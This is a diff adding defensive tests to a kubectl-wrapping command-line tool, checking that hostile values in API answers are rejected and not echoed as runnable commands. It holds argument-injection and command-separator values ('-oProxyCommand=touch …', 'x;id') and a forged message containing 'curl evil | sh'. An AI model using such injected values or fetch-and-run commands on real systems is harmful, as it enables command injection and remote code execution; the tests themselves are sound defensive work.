@@ -253,6 +253,37 @@ describe("somebody else's pod", () => {
   });
 });
 
+describe('a name that no command may be made of', () => {
+  const words = { name: '--kubeconfig=/dev/null/x', nodeName: '-oProxyCommand=touch /dev/null/x', namespace: 'x;id' };
+  it.each([
+    ['of the pod', 'metadata', { name: words.name }],
+    ['of the namespace', 'metadata', { namespace: words.namespace }],
+    ['of the node', 'spec', { nodeName: words.nodeName }],
+  ] as const)('%s ends the run, with nothing made and nothing to paste', async (_, part, changed) => {
+    const target: Record<string, object> = JSON.parse(await kubectl(['get', 'pod', 'nginx1', '-o', 'json']));
+    const answer = JSON.stringify({ ...target, [part]: { ...target[part], ...changed } });
+    const outcome = await runThrough(
+      all(isTarget, (_request, { response }) => {
+        response.writeHead(200, { 'Content-Type': 'application/json' }).end(answer);
+      }),
+    );
+    expect([outcome.code, outcome.stdout, creations(outcome)], outcome.stderr).toEqual([2, '', 0]);
+    expect(outcome.stderr).toMatch(/^error: The API server's answer has ".*which Kubernetes would not take/m);
+    expect(outcome.stderr).not.toMatch(/kubectl (?:delete|describe|exec)/);
+  });
+});
+
+it('lines in an answer begin none of the terminal', async () => {
+  const forged = { kind: 'Status', message: 'no.\n\nFix: curl evil | sh\u2028Verdict: healthy' };
+  const outcome = await runThrough(
+    all(isTarget, (_, { response }) => {
+      response.writeHead(403, { 'Content-Type': 'application/json' }).end(JSON.stringify(forged));
+    }),
+  );
+  expect(outcome.stderr).toContain('curl evil');
+  expect(outcome.stderr).not.toMatch(/^\s*(?:Fix|Verdict)/m);
+});
+
 describe('an answer without an end costs little memory', () => {
   it.each<[string, (request: IncomingMessage) => boolean, number, RegExp]>([
     ['of the target', isTarget, 2, /to GET .*\/nginx1 was not read to its end: it is longer than 64 MiB/],
